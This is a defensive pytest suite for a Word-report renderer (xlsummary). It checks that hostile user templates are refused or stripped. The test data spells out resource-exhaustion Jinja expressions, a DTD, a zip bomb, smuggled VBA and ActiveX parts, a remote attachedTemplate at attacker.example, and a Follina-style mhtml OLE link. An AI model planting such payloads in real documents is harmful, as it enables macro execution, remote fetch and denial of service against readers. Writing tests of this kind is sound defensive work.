"""A user's own Word template is someone else's code: loops, filters and macros that
would hang or exhaust the process, markup that would corrupt the report, DTDs,
zip bombs and macros are all bounded or refused, through the same CLI commands staff
use (``render --template``, ``fields --template``)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest

from tests.conftest import assert_refused, run_measured, snapshot
from tests.hostile_files import docx_with, inflating_member, with_parts
from xlsummary.report import default_template

DOC = "word/document.xml"
FAST = {"XLSUMMARY_TEMPLATE_SECONDS": "3"}


@pytest.fixture
def workbook(make_workbook) -> Path:
    return make_workbook(example=True, name="wb.xlsx")


def template_with(tmp_path: Path, new: str, old: str = "{{ unit }}", name: str = "t.docx"):
    return docx_with(default_template("zh"), tmp_path / name, DOC, old, new)


HOSTILE = {
    # (what the template says, what the refusal must say); the loops wait out the limit
    "nested loops": pytest.param(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "秒仍未完成",
        marks=pytest.mark.slow,
    ),
    "amplifying filter": ("{{ unit|center(1000000000) }}", "内存超过"),
    "growing output": (
        "{% for i in range(100000) %}{{ unit|center(100000) }}{% endfor %}",
        "内存超过",
    ),
    "recursive macro": ("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", "嵌套过深"),
    "markup through safe": ("{{ '&lt;/w:t&gt;&lt;w:p&gt;'|safe }}", "不再是合法的XML"),
    "unclosed tag": ("{{ unit ", "语法错误"),
}


@pytest.mark.parametrize(
    ("expression", "says"),
    list(HOSTILE.values()),
    ids=list(HOSTILE),
)
def test_hostile_template_expressions(workbook, tmp_path: Path, expression, says):
    template = template_with(tmp_path, expression)
    out = tmp_path / "out"
    out.mkdir()
    before = snapshot(tmp_path)
    done, peak = run_measured(
        "render", str(workbook), "-t", str(template), "-o", str(out / "r.docx"), env=FAST
    )
    assert_refused(done, peak, says=says, before=before, folder=tmp_path)
    done, peak = run_measured("fields", "-t", str(template), env=FAST)
    assert done.returncode in (1, 2) and "Traceback" not in done.stderr
    assert says in done.stdout + done.stderr and peak < 2**30


def refused_by_render_and_fields(workbook: Path, template: Path, folder: Path, says: str):
    """``render --template`` and ``fields --template`` both refuse it, writing nothing."""
    before = snapshot(folder)
    done, peak = run_measured(
        "render", str(workbook), "-t", str(template), "-o", str(folder / "x.docx")
    )
    assert_refused(done, peak, says=says, before=before, folder=folder)
    done, peak = run_measured("fields", "-t", str(template))
    assert_refused(done, peak, says=says)


def test_a_dtd_in_a_template(workbook, tmp_path: Path):
    template = docx_with(
        default_template("zh"),
        tmp_path / "dtd.docx",
        DOC,
        "?>",
        '?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaaaaaaaa">]>',
    )
    refused_by_render_and_fields(workbook, template, tmp_path, "DTD")


def test_a_template_that_is_a_zip_bomb(workbook, tmp_path: Path):
    template = inflating_member(
        default_template("zh"), tmp_path / "bomb.docx", "word/styles.xml", 300 * 2**20, 3000
    )
    refused_by_render_and_fields(workbook, template, tmp_path, "解压后超过")


def test_macros_are_never_carried_into_a_report(workbook, tmp_path: Path):
    """A .docx that smuggles a VBA project (with its relationship, content type, data
    and key bindings) renders, without any of them."""
    source = with_parts(
        default_template("zh"),
        tmp_path / "stage.docx",
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really",
            "word/vbaData.xml": b'<?xml version="1.0"?><wne:vbaSuppData '
            b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "word/_rels/vbaProject.bin.rels": b'<?xml version="1.0"?><Relationships xmlns='
            b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
            b'wordVbaData" Target="vbaData.xml"/></Relationships>',
        },
        types=b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.'
        b'vbaData+xml"/>',
    )
    template = docx_with(
        source,
        tmp_path / "macros.docx",
        "word/_rels/document.xml.rels",
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    out = tmp_path / "r.docx"
    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as report:
        names = report.namelist()
        assert not [n for n in names if "vba" in n.lower()]
        for name in names:
            if name.endswith((".rels", ".xml")):
                assert b"vbaProject" not in report.read(name), name
                assert b"vbaData" not in report.read(name), name
    assert docx.Document(out).paragraphs[0].text.endswith("工作总结")


def test_activex_controls_are_refused(workbook, tmp_path: Path):
    template = with_parts(
        default_template("zh"),
        tmp_path / "ax.docx",
        {"word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'},
        types=b'<Override PartName="/word/activeX/activeX1.xml" '
        b'ContentType="application/vnd.ms-office.activeX+xml"/>',
    )
    refused_by_render_and_fields(workbook, template, tmp_path, "ActiveX")


NOTES = {
    "word/endnotes.xml": (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml",
        "endnotes",
        '<w:endnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:endnote w:id="1"><w:p><w:r><w:t>尾注：{{ unit }}</w:t></w:r></w:p></w:endnote>'
        "</w:endnotes>",
    ),
    "word/comments.xml": (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
        "comments",
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:comment w:id="0" w:author="x"><w:p><w:r><w:t>批注：{{ period }}</w:t></w:r></w:p>'
        "</w:comment></w:comments>",
    ),
    "word/charts/chart9.xml": (
        "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
        "chart",
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><c:chart><c:title>'
        "<c:tx><c:rich><a:p><a:r><a:t>{{ year }}年</a:t></a:r></a:p></c:rich></c:tx>"
        "</c:title></c:chart></c:chartSpace>",
    ),
}


def notes_template(tmp_path: Path, parts: list[str]) -> Path:
    rels = "".join(
        f'<Relationship Id="rIdN{k}" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{NOTES[p][1]}" Target="{p[5:]}"/>'
        for k, p in enumerate(parts)
    )
    source = with_parts(
        default_template("zh"),
        tmp_path / "stage.docx",
        {p: NOTES[p][2].encode() for p in parts},
        types="".join(
            f'<Override PartName="/{p}" ContentType="{NOTES[p][0]}"/>' for p in parts
        ).encode(),
    )
    return docx_with(
        source,
        tmp_path / "notes.docx",
        "word/_rels/document.xml.rels",
        "</Relationships>",
        rels + "</Relationships>",
    )


def test_endnotes_and_comments_are_rendered(workbook, tmp_path: Path):
    template = notes_template(tmp_path, ["word/endnotes.xml", "word/comments.xml"])
    out = tmp_path / "r.docx"
    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as report:
        assert "尾注：某某市人民医院" in report.read("word/endnotes.xml").decode()
        assert "批注：全年" in report.read("word/comments.xml").decode()
    listed, _ = run_measured("fields", "-t", str(template))
    assert listed.returncode == 0, listed.stdout
    used = next(line for line in listed.stdout.splitlines() if line.startswith("使用的字段"))
    assert "unit" in used and "period" in used


def test_fields_lists_parts_that_are_not_rendered(tmp_path: Path):
    template = notes_template(tmp_path, ["word/charts/chart9.xml"])
    listed, _ = run_measured("fields", "-t", str(template))
    assert listed.returncode == 1
    assert "这些部件中的字段不会被填写" in listed.stdout
    assert "word/charts/chart9.xml" in listed.stdout
    english, _ = run_measured("fields", "-t", str(template), "--lang", "en")
    assert "will not be filled" in english.stdout and "word/charts/chart9.xml" in english.stdout


def test_a_misspelled_nested_field_is_named(workbook, tmp_path: Path):
    template = template_with(tmp_path, "{{ figures.surgery.totl }}")
    out = str(tmp_path / "x.docx")
    done, peak = run_measured("render", str(workbook), "-t", str(template), "-o", out)
    assert_refused(done, peak, says="“figures.surgery.totl”")
    assert "total" in done.stderr and "dict object" not in done.stderr
    english, _ = run_measured(
        "render", str(workbook), "-t", str(template), "-o", out, "--lang", "en"
    )
    assert "figures.surgery.totl (did you mean 'total'?)" in english.stderr
    listed, _ = run_measured("fields", "-t", str(template))
    assert listed.returncode == 1 and "figures.surgery.totl" in listed.stdout
    assert "dict object" not in listed.stdout


def test_a_user_template_still_renders_like_the_shipped_one(workbook, tmp_path: Path):
    """The worker's report is the in-process one, byte for byte."""
    import datetime as dt

    from xlsummary.check import check_workbook
    from xlsummary.render_docx import load_template
    from xlsummary.report import render_context
    from xlsummary.untrusted import render_untrusted

    context = render_context(check_workbook(workbook), today=dt.date(2024, 1, 5))
    template = default_template("zh")
    inside = load_template(template).render(context)
    worker = render_untrusted(template.read_bytes(), str(template), context)
    assert worker == inside
    assert docx.Document(io.BytesIO(worker)).paragraphs[0].text.endswith("工作总结")


@pytest.mark.parametrize(
    ("target", "element"),
    [
        ("http://attacker.example/evil.dotm", '<w:attachedTemplate r:id="rId99"/>'),
        ("file:///C:/evil.dotm", '<w:attachedTemplate r:id="rId99"></w:attachedTemplate>'),
    ],
    ids=["remote", "end tag"],
)
def test_an_attached_template_is_dropped(workbook, tmp_path: Path, target, element):
    """Word fetches an attached template (and runs its macros) when it opens a document:
    a report never points at one."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()
    staged = with_parts(
        default_template("zh"), tmp_path / "stage.docx", {"word/_rels/settings.xml.rels": rels}
    )
    template = docx_with(
        staged, tmp_path / "att.docx", "word/settings.xml", "<w:zoom", element + "<w:zoom"
    )
    out = tmp_path / "r.docx"
    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as report:
        for name in report.namelist():
            content = report.read(name)
            assert b"evil" not in content and b"attachedTemplate" not in content, name
    assert docx.Document(out).paragraphs[0].text.endswith("工作总结")


def test_a_huge_name_makes_a_short_message(workbook, tmp_path: Path):
    template = template_with(tmp_path, '{{ figures["a".center(3000000)] }}')
    done, peak = run_measured(
        "render", str(workbook), "-t", str(template), "-o", str(tmp_path / "x.docx")
    )
    assert_refused(done, peak, says="报告中没有的字段")
    assert len(done.stderr) < 1000


def test_characters_that_cannot_be_saved(workbook, tmp_path: Path):
    template = template_with(tmp_path, '{{ "\\ud800" }}')
    done, peak = run_measured(
        "render", str(workbook), "-t", str(template), "-o", str(tmp_path / "x.docx")
    )
    assert_refused(done, peak, says="无法保存的字符")


def test_external_content_is_refused(workbook, tmp_path: Path):
    """An OLE object linked to mhtml: (Follina's way in), like any external content but
    a hyperlink, would be fetched by Word on opening the report."""
    template = docx_with(
        default_template("zh"),
        tmp_path / "ole.docx",
        "word/_rels/document.xml.rels",
        "</Relationships>",
        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/oleObject" Target="mhtml:http://attacker.example/x.html!x-usc:'
        'http://attacker.example/x.html" TargetMode="External"/></Relationships>',
    )
    refused_by_render_and_fields(workbook, template, tmp_path, "链接了外部内容")
    link = docx_with(
        default_template("zh"),
        tmp_path / "link.docx",
        "word/_rels/document.xml.rels",
        "</Relationships>",
        '<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
        "</Relationships>",
    )
    done, _ = run_measured("render", str(workbook), "-t", str(link), "-o", str(tmp_path / "l.docx"))
    assert done.returncode == 0, done.stderr  # a hyperlink is the reader's own click
